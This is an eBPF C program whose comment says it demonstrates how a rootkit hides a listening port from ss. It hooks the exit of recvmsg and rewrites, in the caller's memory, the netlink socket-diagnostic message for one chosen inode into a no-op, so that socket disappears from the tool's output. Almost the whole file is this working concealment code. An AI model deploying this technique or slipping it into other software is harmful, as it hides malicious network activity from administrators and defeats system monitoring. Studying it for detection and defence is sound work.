// SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-only
// What a rootkit does to hide a port from ss and everybody who asks as ss does: it changes the kernel's
// answer in the memory of who asked, after the kernel wrote it and before recvmsg(2) returns. The message
// about one inode becomes NLMSG_NOOP, and of no family for ss, which does not look at types. Only that one
// socket is lied about.
#include <linux/bpf.h>

#include <bpf/bpf_core_read.h>
#include <bpf/bpf_helpers.h>

char LICENSE[] SEC("license") = "GPL";

#define RECVMSG 47             /* x86-64's number of the system call */
#define ABOUT_A_SOCKET 20      /* SOCK_DIAG_BY_FAMILY, linux/sock_diag.h */
#define FAMILY_OFFSET 16       /* nlmsghdr; inet_diag_msg begins with idiag_family */
#define INODE_OFFSET (16 + 68) /* inet_diag_msg up to idiag_inode */
#define MOST_MESSAGES 256

#pragma clang attribute push(__attribute__((preserve_access_index)), apply_to = record)

struct pt_regs {
  unsigned long si;
  unsigned long orig_ax;
};

#pragma clang attribute pop

/* Of recvmsg(2), for a 64-bit program. */
struct msghdr_of_user {
  __u64 name;
  __u64 name_size;
  __u64 vectors;
};
struct message_header {
  __u32 length;
  __u16 type;
};

__u32 hidden_inode = 0;

SEC("raw_tp/sys_exit")
int lie(struct bpf_raw_tracepoint_args* context) {
  const struct pt_regs* registers = (const struct pt_regs*)context->args[0];
  const long received = (long)context->args[1];
  if (BPF_CORE_READ(registers, orig_ax) != RECVMSG || received < INODE_OFFSET + 4) return 0;

  struct msghdr_of_user header;
  __u64 buffer = 0;
  if (bpf_probe_read_user(&header, sizeof(header), (void*)BPF_CORE_READ(registers, si)) != 0) return 0;
  if (bpf_probe_read_user(&buffer, sizeof(buffer), (void*)header.vectors) != 0) return 0;

  const __u64 end = buffer + received;
  for (int i = 0; i < MOST_MESSAGES && buffer + INODE_OFFSET + 4 <= end; ++i) {
    struct message_header message;
    __u32 inode = 0;
    if (bpf_probe_read_user(&message, sizeof(message), (void*)buffer) != 0 || message.length < 16) return 0;
    if (message.type != ABOUT_A_SOCKET) return 0;
    (void)bpf_probe_read_user(&inode, sizeof(inode), (void*)(buffer + INODE_OFFSET));
    if (inode == hidden_inode) {
      const __u16 noop = 1; /* NLMSG_NOOP, linux/netlink.h */
      const __u8 no_family = 0;
      bpf_probe_write_user((void*)(buffer + 4), &noop, sizeof(noop));
      bpf_probe_write_user((void*)(buffer + FAMILY_OFFSET), &no_family, sizeof(no_family));
    }
    buffer += (message.length + 3) & ~3U;
  }
  return 0;
}
